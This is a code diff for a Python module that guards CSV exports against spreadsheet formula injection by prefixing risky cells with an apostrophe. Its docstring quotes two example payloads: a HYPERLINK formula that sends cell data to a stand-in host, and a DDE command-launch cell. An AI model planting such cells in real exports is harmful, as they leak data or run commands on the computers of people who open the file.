@@ -1,15 +1,34 @@
-"""CSV cells a spreadsheet reads as text, never as a formula (OWASP, "CSV Injection").
+"""CSV exports that a spreadsheet opens as data, never as formulas.
 
-Names in exports come from users (hub names, nbgrader student names, LMS logins): a cell such as
-``=HYPERLINK(...)`` or ``+cmd|' /C calc'!A0`` would run when the file is opened in a spreadsheet.
+Names in our exports come from users (hub usernames, nbgrader student ids and names): a cell
+such as ``=HYPERLINK("http://evil/?"&A1,"grades")`` or ``+cmd|' /C calc'!A0`` runs when the
+file is opened in Excel, LibreOffice or Google Sheets. OWASP's rule (CSV injection): a text
+cell starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return gets a leading ``'``,
+which spreadsheets show as text; the csv module quotes what needs quoting.
 """
 
 from __future__ import annotations
 
-#: What makes a spreadsheet read a cell as a formula.
+import csv
+import io
+from collections.abc import Iterable, Mapping, Sequence
+from typing import Any
+
+#: What makes a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 
-def neutralize_cell(value: str) -> str:
-    """``value``, with a leading ``'`` if it would start a formula (shown as text)."""
-    return "'" + value if value.startswith(FORMULA_STARTS) else value
+def neutralize(cell: Any) -> Any:
+    """A text cell that would start a formula, prefixed with ``'``; numbers stay numbers."""
+    if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
+        return "'" + cell
+    return cell
+
+
+def csv_text(fieldnames: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> str:
+    """A header and ``rows`` as CSV, every text cell neutralized."""
+    out = io.StringIO()
+    writer = csv.DictWriter(out, fieldnames=fieldnames)
+    writer.writeheader()
+    writer.writerows({key: neutralize(value) for key, value in row.items()} for row in rows)
+    return out.getvalue()
